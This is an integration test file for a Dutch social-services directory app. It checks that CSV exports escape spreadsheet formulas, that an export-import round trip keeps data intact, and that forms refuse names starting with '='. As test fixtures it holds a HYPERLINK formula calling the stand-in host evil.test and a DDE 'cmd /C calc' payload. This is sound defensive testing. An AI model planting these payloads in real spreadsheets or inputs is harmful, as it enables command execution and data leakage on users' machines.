using System.IO.Compression;
using System.Net;
using System.Text;
using Meedenker.Domain;
using Meedenker.IntegrationTests.Infrastructure;
using Meedenker.Web.Features.Directory;
using Microsoft.EntityFrameworkCore;

namespace Meedenker.IntegrationTests;

/// <summary>
/// Finding 5 (decision 0081): no cell of an export runs as a formula in a spreadsheet, and an HSDS import of our
/// own export gives back exactly the same data. Each test that exports builds its own directory: the export holds
/// everything in the database.
/// </summary>
public sealed class SpreadsheetInjectionTests(MeedenkerFactory app) : IClassFixture<MeedenkerFactory>
{
    private const string Formula = "=HYPERLINK(\"http://evil.test/?x\",\"klik\")";

    private static async Task<byte[]> ExportAsync(MeedenkerFactory factory)
    {
        var response = await factory.CreateClient().GetAsync("/api/hsds/export.zip");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return await response.Content.ReadAsByteArrayAsync();
    }

    private static Dictionary<string, string> Entries(byte[] zip)
    {
        using var archive = new ZipArchive(new MemoryStream(zip), ZipArchiveMode.Read);
        return archive.Entries.ToDictionary(e => e.FullName, e =>
        {
            using var reader = new StreamReader(e.Open(), Encoding.UTF8);
            return reader.ReadToEnd();
        });
    }

    [Fact]
    public async Task A_service_named_like_a_formula_is_text_in_the_anonymous_hsds_export()
    {
        using var directory = new MeedenkerFactory();
        // Stored before names were checked (or by an older import): the export must still be safe.
        var service = await directory.CreateServiceAsync(Formula, "@SUM(1+1)*cmd|' /C calc'!A0");

        var entries = Entries(await ExportAsync(directory));

        var line = entries["service.csv"].Split("\r\n").Single(l => l.StartsWith(service.Id.ToString(), StringComparison.Ordinal));
        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.test/?x\"\",\"\"klik\"\")\",", line, StringComparison.Ordinal);
        Assert.Contains(",'@SUM(1+1)*cmd|' /C calc'!A0,", line, StringComparison.Ordinal);
        foreach (var (name, text) in entries.Where(e => e.Key.EndsWith(".csv", StringComparison.Ordinal)))
        {
            foreach (var cell in text.Split("\r\n").SelectMany(l => l.Split(',')))
            {
                Assert.False(cell.TrimStart('"').StartsWith('=') || cell.TrimStart('"').StartsWith('@'), $"{name}: {cell}");
            }
        }
    }

    [Fact]
    public async Task Export_then_import_gives_back_text_that_starts_like_a_formula_exactly()
    {
        using var source = new MeedenkerFactory();
        var organization = await source.CreateOrganizationAsync();
        var service = await source.CreateServiceAsync("@ease Goes", "- eerste punt\n- tweede punt; met een puntkomma", organizationId: organization.Id);
        var location = await source.WithDbAsync(async db =>
        {
            var s = await db.Services.Include(x => x.Phones).SingleAsync(x => x.Id == service.Id);
            s.FeesDescription = "-";
            s.ApplicationProcess = "+ aanmelden via de site";
            s.Phones.Single().Number = "+31 113 123 456";
            var l = await db.Locations.SingleAsync(x => x.OrganizationId == organization.Id);
            l.Name = "'s-Hertogenbosch centrum";
            l.City = "'s-Hertogenbosch";
            l.Accessibility = "'=geen formule, een aanhalingsteken";
            l.Transportation = "  -12 minuten lopen";
            await db.SaveChangesAsync();
            return l;
        });
        var first = await ExportAsync(source);
        var entries = Entries(first);
        Assert.Contains(",'@ease Goes,", entries["service.csv"], StringComparison.Ordinal);
        Assert.Contains(",'+31 113 123 456,", entries["phone.csv"], StringComparison.Ordinal);
        Assert.Contains(",'s-Hertogenbosch centrum,", entries["location.csv"], StringComparison.Ordinal);
        Assert.Contains("\"''=geen formule, een aanhalingsteken\"", entries["accessibility.csv"], StringComparison.Ordinal);

        using var empty = new MeedenkerFactory();
        var result = await empty.WithDbAsync(db => new HsdsImporter(db, TestClock.Instance).ImportAsync(new MemoryStream(first), CancellationToken.None));

        Assert.True(result.Succeeded, string.Join("\n", result.Problems));
        var imported = await empty.WithDbAsync(db => db.Services.Include(s => s.Phones).SingleAsync(s => s.Id == service.Id));
        Assert.Equal("@ease Goes", imported.Name);
        Assert.Equal("- eerste punt\n- tweede punt; met een puntkomma", imported.Description);
        Assert.Equal("-", imported.FeesDescription);
        Assert.Equal("+ aanmelden via de site", imported.ApplicationProcess);
        Assert.Equal("+31 113 123 456", imported.Phones.Single().Number);
        var importedLocation = await empty.WithDbAsync(db => db.Locations.SingleAsync(l => l.Id == location.Id));
        Assert.Equal("'s-Hertogenbosch centrum", importedLocation.Name);
        Assert.Equal("'s-Hertogenbosch", importedLocation.City);
        Assert.Equal("'=geen formule, een aanhalingsteken", importedLocation.Accessibility);
        Assert.Equal("  -12 minuten lopen", importedLocation.Transportation);
        var second = Entries(await ExportAsync(empty));
        foreach (var (name, text) in entries)
        {
            Assert.True(text == second[name], $"{name} differs after the round trip:\n{text}\n---\n{second[name]}");
        }
    }

    [Theory]
    [InlineData(Formula)]
    [InlineData("'" + Formula)]
    public async Task An_import_refuses_a_name_that_starts_with_an_equals_sign_and_changes_nothing(string cell)
    {
        using var source = new MeedenkerFactory();
        var service = await source.CreateServiceAsync("Gewone naam", "Iets");
        var entries = Entries(await ExportAsync(source));
        entries["service.csv"] = entries["service.csv"].Replace(",Gewone naam,", ",\"" + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + "\",", StringComparison.Ordinal);
        using var zip = new MemoryStream();
        using (var archive = new ZipArchive(zip, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, text) in entries)
            {
                using var writer = new StreamWriter(archive.CreateEntry(name).Open(), new UTF8Encoding(false));
                writer.Write(text);
            }
        }

        var result = await app.WithDbAsync(db => new HsdsImporter(db, TestClock.Instance).ImportAsync(new MemoryStream(zip.ToArray()), CancellationToken.None));

        // The refused row's phones, areas and terms then point nowhere; those follow from this one problem.
        var problem = Assert.Single(result.Problems, p => p.File == "service.csv");
        Assert.Equal("name", problem.Column);
        Assert.Equal("Een naam mag niet met een =-teken beginnen: een rekenprogramma leest dat als een formule.", problem.Nl);
        Assert.False(await app.WithDbAsync(db => db.Services.AnyAsync(s => s.Id == service.Id)));
    }

    [Fact]
    public async Task The_service_page_refuses_a_name_that_starts_with_an_equals_sign()
    {
        var organization = await app.CreateOrganizationAsync();
        var service = await app.CreateServiceAsync("Blijft zo", "Iets", organizationId: organization.Id);
        var client = await app.SignInAsync(await app.CreateStaffAsync(StaffRoles.Coordinator, organization.Id, twoFactor: true));
        var version = await app.WithDbAsync(async db => (await db.Services.SingleAsync(s => s.Id == service.Id)).LastModified.UtcTicks.ToString(System.Globalization.CultureInfo.InvariantCulture));

        var response = await client.PostFormAsync($"/werk/sociale-kaart/dienst/{service.Id}", new()
        {
            ["Input.Name"] = " " + Formula,
            ["Input.Description"] = "Samen de post doornemen.",
            ["Input.Status"] = "Active",
            ["Input.IsFree"] = "true",
            ["Input.LifeDomains"] = "financien-inkomen",
            ["Input.Municipalities"] = "GM0664",
            ["Input.Version"] = version,
        });

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("Een naam mag niet met een =-teken beginnen", WebUtility.HtmlDecode(await response.Content.ReadAsStringAsync()), StringComparison.Ordinal);
        Assert.Equal("Blijft zo", await app.WithDbAsync(db => db.Services.Where(s => s.Id == service.Id).Select(s => s.Name).SingleAsync()));
    }

    [Fact]
    public async Task The_location_page_and_the_invitation_refuse_a_name_that_starts_with_an_equals_sign()
    {
        var organization = await app.CreateOrganizationAsync();
        var service = await app.CreateServiceAsync("Met locatie", "Iets", organizationId: organization.Id);
        var location = await app.WithDbAsync(db => db.ServiceAtLocations.Where(l => l.ServiceId == service.Id).Select(l => l.LocationId).SingleAsync());
        var coordinator = await app.SignInAsync(await app.CreateStaffAsync(StaffRoles.Coordinator, organization.Id, twoFactor: true));
        var admin = await app.SignInAsync(await app.CreateStaffAsync(StaffRoles.Admin, organization.Id, twoFactor: true));
        var email = $"{MeedenkerFactory.Unique("formule")}@test.meedenker.test";

        var locationPage = await coordinator.PostFormAsync($"/werk/sociale-kaart/locatie/{location}", new()
        {
            ["Input.Name"] = "=1+1",
            ["Input.Address"] = "Markt 2",
            ["Input.PostalCode"] = "4461 AB",
            ["Input.City"] = "Goes",
            ["Input.Municipality"] = "GM0664",
        });
        var invitation = await admin.PostFormAsync("/beheer/gebruikers/uitnodigen", new()
        {
            ["Input.DisplayName"] = "=1+1",
            ["Input.Email"] = email,
            ["Input.OrganizationId"] = organization.Id.ToString(),
            ["Input.Role"] = StaffRoles.Coordinator,
        });

        foreach (var response in new[] { locationPage, invitation })
        {
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Contains("Een naam mag niet met een =-teken beginnen", WebUtility.HtmlDecode(await response.Content.ReadAsStringAsync()), StringComparison.Ordinal);
        }
        Assert.NotEqual("=1+1", await app.WithDbAsync(db => db.Locations.Where(l => l.Id == location).Select(l => l.Name).SingleAsync()));
        Assert.False(await app.WithDbAsync(db => db.Users.AnyAsync(u => u.Email == email)));
    }

    [Fact]
    public async Task The_access_log_export_shows_an_organisation_named_like_a_formula_as_text()
    {
        var organization = await app.CreateOrganizationAsync();
        await app.WithDbAsync(async db =>
        {
            (await db.Organizations.SingleAsync(o => o.Id == organization.Id)).Name = Formula;
            return await db.SaveChangesAsync();
        });
        var staff = await app.CreateStaffAsync(StaffRoles.Admin, organization.Id, twoFactor: true);
        var admin = await app.SignInAsync(staff);
        var user = Uri.EscapeDataString(staff.Email);
        await admin.GetStringAsync($"/beheer/toegangslog?gebruiker={user}");

        var export = await admin.GetStringAsync($"/beheer/toegangslog?handler=Csv&gebruiker={user}");

        var rows = export.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1).ToList();
        Assert.NotEmpty(rows);
        Assert.All(rows, r => Assert.Contains(";\"'=HYPERLINK(\"\"http://evil.test/?x\"\",\"\"klik\"\")\";", r, StringComparison.Ordinal));
    }
}
